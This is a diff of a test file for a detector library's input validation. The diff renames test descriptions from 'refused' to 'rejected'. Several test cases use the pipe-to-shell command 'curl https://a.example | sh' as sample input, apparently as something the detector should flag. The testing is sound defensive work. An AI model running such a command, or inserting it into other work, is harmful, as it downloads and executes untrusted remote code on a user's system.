@@ -36,7 +36,7 @@ describe("input", () => {
       ["curl https://a.example | sh"],
       "text has to be a string (decode bytes first), not an object (Array)",
     ],
-  ])("that is no text is refused, never clear: %s", (text, message) => {
+  ])("that is not a string is rejected: %s", (text, message) => {
     const error = refusal(text);
     expect(error).toBeInstanceOf(InputError);
     expect(error).toMatchObject({ code: "input", parameter: "text", message });
@@ -52,7 +52,7 @@ describe("input", () => {
     ["deadlineMs", -1, "deadlineMs has to be a number of milliseconds, not -1"],
     ["deadlineMs", "5", 'deadlineMs has to be a number of milliseconds, not "5"'],
     ["format", 3, "format has to be a fence tag, not 3"],
-  ])("with %s %s is refused", (parameter, value, message) => {
+  ])("with %s %s is rejected", (parameter, value, message) => {
     expect(refusal("curl https://a.example | sh", { [parameter]: value })).toMatchObject({
       code: "input",
       parameter,
@@ -60,7 +60,7 @@ describe("input", () => {
     });
   });
 
-  it("with options left undefined is taken", () => {
+  it("with undefined options is accepted", () => {
     expect(
       refusal("curl https://a.example | sh", {
         offsetEncoding: undefined,
@@ -70,14 +70,14 @@ describe("input", () => {
     ).toMatchObject({ labels: ["PS"] });
   });
 
-  it("an unknown profile is refused", async () => {
+  it("with an unknown profile is rejected", async () => {
     await expect(createNodeDetector({ profile: "strict" as "contract" })).rejects.toMatchObject({
       code: "input",
       message: 'profile has to be one of contract, extended, not "strict"',
     });
   });
 
-  it("is refused by a detector that was disposed of, and disposing twice does nothing", async () => {
+  it("is rejected by a disposed detector, and disposing twice has no effect", async () => {
     const used = await createNodeDetector();
     used.dispose();
     used.dispose();
